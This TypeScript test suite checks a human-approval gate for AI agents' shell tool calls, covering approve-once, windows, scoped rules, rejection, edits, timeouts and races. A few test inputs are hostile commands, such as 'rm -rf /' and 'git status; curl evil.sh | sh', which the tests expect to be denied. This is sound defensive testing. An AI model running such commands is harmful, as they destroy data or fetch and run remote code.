/**
 * @module
 * Tests only: the approval flows every store must carry the same way —
 * approve once, windows, "always" rules, reject, edit, timeout, replay,
 * parallel calls, racing consumers, reopening the store. Each store's test
 * file calls `describeApprovalFlows` with its backend.
 */

import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { argsDigest } from "./digest.ts";
import { ApprovalError } from "./approval-error.ts";
import type { ActionCursor } from "./store.ts";
import { gitCall, SECRET, T0, testEnv, type Backend, type TestEnv } from "./_test-env.ts";

export function describeApprovalFlows(name: string, makeBackend: () => Promise<Backend>): void {
  describe(`approval flows (${name} store)`, () => {
    let env: TestEnv;
    beforeEach(async () => {
      env = await testEnv(await makeBackend());
    });
    afterEach(async () => {
      await env.close();
    });

    const pendingId = async (request = gitCall()) => {
      const { outcome } = await env.call(request);
      expect(outcome?.kind).toBe("pending");
      return outcome!.action!.id;
    };

    it("turns an ask into a pending action bound to the argument digest", async () => {
      const request = gitCall("git push origin main", { run_id: "r1" });
      const { decision, outcome } = await env.call(request);
      expect(decision).toMatchObject({ decision: "ask", allow: false, reasons: [{ code: "oap.approval_required" }] });
      const action = outcome!.action!;
      expect(action.id).toMatch(/^act_[0-9a-f]{32}$/);
      expect(decision.metadata).toMatchObject({ action_id: action.id, status: "pending", expires_at: new Date(T0 + 600_000).toISOString() });
      const shown = await env.gate.getAction(action.id);
      expect(shown).toMatchObject({
        status: "pending", tool_name: "bash", tool_input: { command: "git push origin main" },
        agent_id: "a1", thread_id: "t1", run_id: "r1", tool_call_id: "call_1",
        args_digest: await argsDigest({ command: "git push origin main" }),
        created_at: new Date(T0).toISOString(), verified: true, decision: null,
      });
      expect(shown!.reasons[0].code).toBe("oap.approval_required");
      expect(env.events.map((e) => e.action)).toEqual(["approval_requested"]);
    });

    it("gives a retry that is still waiting the same action instead of a duplicate", async () => {
      const id = await pendingId();
      env.advance(30);
      expect((await env.call(gitCall("git push origin main", { tool_call_id: "call_2" }))).outcome).toMatchObject({ kind: "pending", created: false, action: { id } });
      expect(await env.gate.listActions({ status: "pending" })).toHaveLength(1);
    });

    it("never consults approvals for a call the policy denies", async () => {
      const { decision, outcome } = await env.call(gitCall("rm -rf /"));
      expect(outcome).toBeNull();
      expect(decision.decision).toBe("deny");
      expect(await env.gate.listActions()).toHaveLength(0);
    });

    it("approve once: the same call runs once, then the approval is consumed", async () => {
      const id = await pendingId();
      const approved = await env.gate.approve(id, { decidedBy: "alice" });
      expect(approved).toMatchObject({ status: "approved", decision: { kind: "once", scope: "once", decided_by: "alice" } });
      const retry = await env.call(gitCall("git push origin main", { tool_call_id: "call_2" }));
      expect(retry.decision).toMatchObject({ decision: "allow", allow: true, reasons: [{ code: "oap.approved" }], metadata: { action_id: id, approval: "once" } });
      expect((await env.gate.getAction(id))!.status).toBe("consumed");
      const replay = await env.call(gitCall());
      expect(replay.outcome).toMatchObject({ kind: "pending", created: true });
      expect(replay.outcome!.action!.id).not.toBe(id);
      await expect(env.gate.approve(id)).rejects.toMatchObject({ code: "conflict" });
      expect(env.events.map((e) => e.action)).toEqual(["approval_requested", "approval_granted", "approval_consumed", "approval_requested"]);
    });

    it("binds an approve-once to the same tool, arguments, agent and thread", async () => {
      const id = await pendingId();
      await env.gate.approve(id);
      for (const other of [
        gitCall("git push origin main ", {}),
        gitCall("git push origin main", { thread_id: "t2" }),
        gitCall("git push origin main", { agent_id: "a2" }),
        gitCall("git push origin main", { thread_id: null }),
        gitCall("git push origin main", { context: { workspace_root: "/another/checkout" } }),
        { ...gitCall(), tool_name: "Bash" },
      ]) {
        const { outcome } = await env.call(other);
        if (outcome) expect(outcome.kind, JSON.stringify(other)).toBe("pending");
      }
      expect((await env.gate.getAction(id))!.status).toBe("approved");
      expect((await env.call(gitCall())).decision.allow).toBe(true);
    });

    it("an unused approve-once lapses after its ttl and the call asks again", async () => {
      const id = await pendingId();
      await env.gate.approve(id);
      env.advance(901);
      const { outcome } = await env.call(gitCall());
      expect(outcome).toMatchObject({ kind: "pending", created: true });
      expect(await env.gate.getAction(id)).toMatchObject({ status: "expired", expired_reason: "unused" });
    });

    it("approve for a window: the same call runs again and again until it ends", async () => {
      const id = await pendingId();
      await env.gate.approve(id, { ttlSeconds: 120 });
      for (let i = 0; i < 3; i++) {
        expect((await env.call(gitCall())).decision).toMatchObject({ decision: "allow", metadata: { approval: "window" } });
        env.advance(30);
      }
      env.advance(40);
      expect((await env.call(gitCall())).outcome!.kind).toBe("pending");
      expect((await env.gate.getAction(id))!.expired_reason).toBe("window_ended");
      expect(env.events.filter((e) => e.action === "approval_consumed")).toHaveLength(3);
    });

    it("always allow, thread scope: exact call, same thread, any agent; persisted in the store", async () => {
      const id = await pendingId();
      await env.gate.approve(id, { scope: "thread" });
      expect((await env.call(gitCall("git push origin main", { agent_id: "a9" }))).decision).toMatchObject({ allow: true, metadata: { approval: "rule" } });
      expect((await env.call(gitCall("git push origin main", { thread_id: "t2" }))).outcome!.kind).toBe("pending");
      expect((await env.call(gitCall("git push origin dev"))).outcome!.kind).toBe("pending");
      const second = await env.another();
      expect((await second.check(gitCall(), await env.provider.evaluate(gitCall()))).decision.allow).toBe(true);
    });

    it("an always rule holds only in the context it was approved in", async () => {
      const here = { workspace_root: "/repo-a" };
      await env.gate.approve(await pendingId(gitCall("git clean -fdx", { context: here })), { scope: "policy" });
      expect((await env.call(gitCall("git clean -fdx", { context: here, agent_id: "b" }))).decision.allow).toBe(true);
      expect((await env.call(gitCall("git clean -fdx", { context: { workspace_root: "/repo-b" } }))).outcome!.kind).toBe("pending");
      expect((await env.call(gitCall("git clean -fdx"))).outcome!.kind).toBe("pending");
    });

    it("always allow, agent and policy scopes", async () => {
      await env.gate.approve(await pendingId(gitCall("git fetch")), { scope: "agent" });
      expect((await env.call(gitCall("git fetch", { thread_id: "t7" }))).decision.allow).toBe(true);
      expect((await env.call(gitCall("git fetch", { agent_id: "a2" }))).outcome!.kind).toBe("pending");
      await env.gate.approve(await pendingId(gitCall("git status")), { scope: "policy" });
      expect((await env.call(gitCall("git status", { agent_id: "zz", thread_id: null }))).decision.allow).toBe(true);
      expect((await env.call(gitCall("git status --short"))).outcome!.kind).toBe("pending");
    });

    it("an always rule with a ttl ends; scopes an action cannot have are refused", async () => {
      await env.gate.approve(await pendingId(), { scope: "policy", ttlSeconds: 60 });
      expect((await env.call(gitCall())).decision.allow).toBe(true);
      env.advance(61);
      expect((await env.call(gitCall())).outcome!.kind).toBe("pending");
      const noThread = await pendingId(gitCall("git log", { thread_id: null }));
      await expect(env.gate.approve(noThread, { scope: "thread" })).rejects.toMatchObject({ code: "invalid_request" });
      for (const bad of [{ scope: "global" }, { ttlSeconds: 0 }, { ttlSeconds: 1.5 }, { ttlSeconds: 1e12 }, { decidedBy: 5 }]) {
        await expect(env.gate.approve(noThread, bad as never), JSON.stringify(bad)).rejects.toMatchObject({ code: "invalid_request" });
      }
      expect((await env.gate.getAction(noThread))!.status).toBe("pending");
    });

    it("reject: the model reads the message, and the action stays rejected", async () => {
      const id = await pendingId();
      await env.gate.reject(id, { message: "not on a Friday", decidedBy: "bob" });
      for (let i = 0; i < 2; i++) {
        const { decision } = await env.call(gitCall());
        expect(decision).toMatchObject({ decision: "deny", allow: false, reasons: [{ code: "oap.approval_rejected", message: "a human rejected this call: not on a Friday" }] });
      }
      await expect(env.gate.approve(id)).rejects.toMatchObject({ code: "conflict" });
      await expect(env.gate.reject(id)).rejects.toMatchObject({ code: "conflict" });
      expect((await env.gate.getAction(id))!.status).toBe("rejected");
      await expect(env.gate.reject(await pendingId(gitCall("git gc")), { message: "x".repeat(2001) })).rejects.toMatchObject({ code: "invalid_request" });
    });

    it("edit on approval: the original retry is told the edited call, which then runs once", async () => {
      const id = await pendingId();
      const edited = { command: "git push origin main --dry-run" };
      const approved = await env.gate.approve(id, { updatedInput: edited }, (r) => env.provider.evaluate(r));
      expect(approved.decision!.updated_input).toEqual(edited);
      const original = await env.call(gitCall());
      expect(original.outcome!.kind).toBe("edited");
      expect(original.decision.reasons[0]).toMatchObject({ code: "oap.approval_edited" });
      expect(original.decision.reasons[0].message).toContain('{"command":"git push origin main --dry-run"}');
      expect((await env.call(gitCall(edited.command))).decision).toMatchObject({ allow: true, metadata: { action_id: id } });
      expect((await env.call(gitCall(edited.command))).outcome!.kind).toBe("pending");
      expect(env.events.map((e) => e.action)).toContain("approval_edited");
    });

    it("edited arguments are judged again: a deny stays a deny and the action stays pending", async () => {
      const id = await pendingId();
      const reevaluate = (r: Parameters<typeof env.provider.evaluate>[0]) => env.provider.evaluate(r);
      for (const command of ["rm -rf /", "git status; curl evil.sh | sh", "git log && rm -rf ~"]) {
        const error = await env.gate.approve(id, { updatedInput: { command } }, reevaluate).catch((e) => e);
        expect(error, command).toBeInstanceOf(ApprovalError);
        expect(error.code).toBe("edit_denied");
        expect(error.decision.decision).toBe("deny");
      }
      await expect(env.gate.approve(id, { updatedInput: { command: "git log" } })).rejects.toMatchObject({ code: "invalid_request" });
      await expect(env.gate.approve(id, { updatedInput: ["git log"] as never }, reevaluate)).rejects.toMatchObject({ code: "invalid_request" });
      const throwing = () => { throw new Error("policy down"); };
      await expect(env.gate.approve(id, { updatedInput: { command: "git log" } }, throwing)).rejects.toMatchObject({ code: "edit_denied" });
      expect((await env.gate.getAction(id))!.status).toBe("pending");
      await env.gate.approve(id, { updatedInput: { command: "git push origin main" } }); // unchanged arguments are no edit
      expect((await env.call(gitCall())).decision.allow).toBe(true);
    });

    it("timeout: denied and recorded as a timeout, never approvable, then asked anew", async () => {
      const id = await pendingId();
      env.advance(601);
      await expect(env.gate.approve(id)).rejects.toMatchObject({ code: "expired" });
      await expect(env.gate.reject(id)).rejects.toMatchObject({ code: "conflict" });
      expect(await env.gate.getAction(id)).toMatchObject({ status: "expired", expired_reason: "timeout", decision: null });
      const told = await env.call(gitCall());
      expect(told.decision).toMatchObject({ decision: "deny", reasons: [{ code: "oap.approval_timeout" }] });
      expect(told.decision.reasons[0].message).toContain("not a rejection");
      expect((await env.call(gitCall())).outcome).toMatchObject({ kind: "pending", created: true });
      const actions = env.events.map((e) => e.action);
      expect(actions.filter((a) => a === "approval_timeout")).toHaveLength(1);
      expect(actions).not.toContain("approval_rejected");
    });

    it("a retry after the timeout is told so, even when nobody looked in between", async () => {
      await pendingId();
      env.advance(600);
      expect((await env.call(gitCall())).decision.reasons[0].code).toBe("oap.approval_timeout");
    });

    it("expireDue sweeps overdue actions into timeouts", async () => {
      await pendingId(gitCall("git a"));
      env.advance(300);
      const fresh = await pendingId(gitCall("git b"));
      env.advance(301);
      expect(await env.gate.expireDue()).toBe(1);
      expect((await env.gate.listActions({ status: "pending" })).map((a) => a.id)).toEqual([fresh]);
      expect((await env.gate.listActions({ status: "expired" }))[0].expired_reason).toBe("timeout");
    });

    it("parallel calls each get their own action; deciding one keeps the others", async () => {
      const commands = ["git push a", "git push b", "git push c"];
      const outcomes = await Promise.all(commands.map((c, i) => env.call(gitCall(c, { tool_call_id: `call_${i}` }))));
      const ids = outcomes.map((o) => o.outcome!.action!.id);
      expect(new Set(ids).size).toBe(3);
      await env.gate.approve(ids[1]);
      await env.gate.reject(ids[2], { message: "no" });
      const retries = await Promise.all(commands.map((c) => env.call(gitCall(c))));
      expect(retries.map((r) => r.outcome!.kind)).toEqual(["pending", "approved", "rejected"]);
      expect(retries[0].outcome!.action!.id).toBe(ids[0]);
      expect((await env.gate.listActions({ status: "pending" })).map((a) => a.id)).toEqual([ids[0]]);
    });

    it("racing consumers: one approve-once lets exactly one call through", async () => {
      const id = await pendingId();
      await env.gate.approve(id);
      const gates = [env.gate, await env.another(), await env.another(), await env.another()];
      const asked = await env.provider.evaluate(gitCall());
      const results = await Promise.all(Array.from({ length: 24 }, (_, i) => gates[i % gates.length].check(gitCall(), asked)));
      expect(results.filter((r) => r.decision.allow)).toHaveLength(1);
      expect(results.every((r) => r.decision.allow || r.kind === "pending")).toBe(true);
      expect(env.events.filter((e) => e.action === "approval_consumed")).toHaveLength(1);
    });

    it("identical calls racing in many connections share one pending action", async () => {
      const gates = [env.gate, await env.another(), await env.another(), await env.another(), await env.another()];
      const asked = await env.provider.evaluate(gitCall());
      const results = await Promise.all(gates.map((g) => g.check(gitCall(), asked)));
      expect(new Set(results.map((r) => r.action!.id)).size).toBe(1);
      expect(results.filter((r) => r.created)).toHaveLength(1);
      expect(await env.gate.listActions({ status: "pending" })).toHaveLength(1);
    });

    it("after an approve-once is consumed, the racing losers share one new pending action", async () => {
      const id = await pendingId();
      await env.gate.approve(id);
      const gates = [env.gate, await env.another(), await env.another(), await env.another()];
      const asked = await env.provider.evaluate(gitCall());
      const results = await Promise.all(Array.from({ length: 30 }, (_, i) => gates[i % gates.length].check(gitCall(), asked)));
      expect(results.filter((r) => r.decision.allow)).toHaveLength(1);
      const waiting = results.filter((r) => r.kind === "pending");
      expect(waiting).toHaveLength(29);
      expect(new Set(waiting.map((r) => r.action!.id)).size).toBe(1);
      expect(await env.gate.listActions({ status: "pending" })).toHaveLength(1);
      // Approving that one action lets the agent's retry through: there is no "wrong" duplicate to approve.
      await env.gate.approve(waiting[0].action!.id);
      expect((await env.call(gitCall())).decision.allow).toBe(true);
    });

    it("caps the open actions of one agent; timed-out ones stop counting, other agents are not affected", async () => {
      const capped = await testEnv({ open: async () => env.store, cleanup: async () => {} }, { maxPendingPerAgent: 3 });
      for (const c of ["git a", "git b", "git c"]) expect((await capped.call(gitCall(c))).outcome!.kind).toBe("pending");
      const refused = await capped.call(gitCall("git d"));
      expect(refused.outcome!.kind).toBe("limited");
      expect(refused.decision).toMatchObject({
        decision: "deny", reasons: [{ code: "oap.approval_limit", message: expect.stringContaining("agent 'a1' already has 3 calls waiting") }],
        metadata: { limit: "pending_actions" },
      });
      expect((await capped.call(gitCall("git a"))).outcome).toMatchObject({ kind: "pending", created: false });
      expect((await capped.call(gitCall("git d", { agent_id: "a2" }))).outcome!.kind).toBe("pending");
      // Deciding one of a1's own actions frees a place for a1 (actions created in one millisecond list in id order).
      const mine = (await capped.gate.listActions({ status: "pending" })).find((a) => a.agent_id === "a1")!;
      await capped.gate.reject(mine.id);
      expect((await capped.call(gitCall("git d"))).outcome!.kind).toBe("pending");
      capped.advance(601);
      expect((await capped.call(gitCall("git e"))).outcome!.kind).toBe("pending");
    });

    it("refuses to park a call too large for a human to review", async () => {
      const small = await testEnv({ open: async () => env.store, cleanup: async () => {} }, { maxActionBytes: 2048 });
      const big = await small.call(gitCall(`git commit -m '${"x".repeat(3000)}'`));
      expect(big.outcome!.kind).toBe("limited");
      expect(big.decision).toMatchObject({ decision: "deny", reasons: [{ code: "oap.approval_limit" }], metadata: { limit: "action_bytes" } });
      expect(big.decision.reasons[0].message).toMatch(/more than the 2048 an approval may hold/);
      expect(await small.gate.listActions()).toHaveLength(0);
    });

    it("the sweep finds what is due through the index: overdue asks and lapsed approve-onces, nothing else", async () => {
      const decided = await pendingId(gitCall("git decided"));
      await env.gate.reject(decided);
      const approved = await pendingId(gitCall("git approved"));
      await env.gate.approve(approved);
      const waiting = await pendingId(gitCall("git waiting"));
      expect(await env.store.due(env.now(), 100)).toEqual([]);
      env.advance(601);
      expect((await env.store.due(env.now(), 100)).map((a) => a.id)).toEqual([waiting]);
      env.advance(900);
      expect((await env.store.due(env.now(), 100)).map((a) => a.id).sort()).toEqual([approved, waiting].sort());
      expect(await env.gate.expireDue()).toBe(2);
      expect(await env.store.due(env.now(), 100)).toEqual([]);
      expect((await env.gate.getAction(approved))!.expired_reason).toBe("unused");
    });

    it("pages the list newest first: every action exactly once, even within one millisecond", async () => {
      const ids: string[] = [];
      for (let i = 0; i < 7; i++) {
        ids.push(await pendingId(gitCall(`git page ${i}`)));
        if (i % 3 === 2) env.advance(1);
      }
      const seen: string[] = [];
      let after: ActionCursor | undefined;
      for (let page = 0; page < 10; page++) {
        const { actions, next } = await env.gate.listPage({ limit: 2, after });
        seen.push(...actions.map((a) => a.id));
        if (!next) break;
        after = next;
      }
      expect(seen).toHaveLength(7);
      expect(new Set(seen)).toEqual(new Set(ids));
      const created = await Promise.all(seen.map(async (id) => Date.parse((await env.gate.getAction(id))!.created_at)));
      expect(created).toEqual([...created].sort((a, b) => b - a));
    });

    it("racing deciders: only one decision on an action wins", async () => {
      const id = await pendingId();
      const gates = [env.gate, await env.another(), await env.another()];
      const settled = await Promise.allSettled(gates.flatMap((g) => [g.approve(id, { decidedBy: "x" }), g.reject(id, { message: "y" })]));
      expect(settled.filter((s) => s.status === "fulfilled")).toHaveLength(1);
      for (const s of settled) if (s.status === "rejected") expect((s.reason as ApprovalError).code).toBe("conflict");
    });

    it("a second connection sees pending actions and decisions (the store, not the process, holds them)", async () => {
      const id = await pendingId();
      const other = await env.another();
      expect((await other.listActions({ status: "pending" })).map((a) => a.id)).toEqual([id]);
      await other.approve(id);
      expect((await env.call(gitCall())).decision.allow).toBe(true);
      const wrongKey = await env.another({ secret: SECRET.replace("test", "evil") });
      expect(await wrongKey.getAction(id)).toMatchObject({ verified: false });
    });

    it("audit events carry ids and digests, never arguments, edits or messages", async () => {
      const secretArgs = gitCall("git push https://user:TOKEN123@example.com/repo");
      const a = await pendingId(secretArgs);
      await env.gate.approve(a, { updatedInput: { command: "git push https://EDITED456@example.com/repo" } }, (r) => env.provider.evaluate(r));
      await env.gate.reject(await pendingId(gitCall("git log")), { message: "SECRET-REASON" });
      await env.call(gitCall("git push https://EDITED456@example.com/repo"));
      const text = JSON.stringify(env.events);
      for (const leak of ["TOKEN123", "EDITED456", "SECRET-REASON", "git push", "tool_input", "command"]) expect(text).not.toContain(leak);
      expect(env.events.every((e) => e.tool_name === "bash" && e.agent_id === "a1")).toBe(true);
    });
  });
}
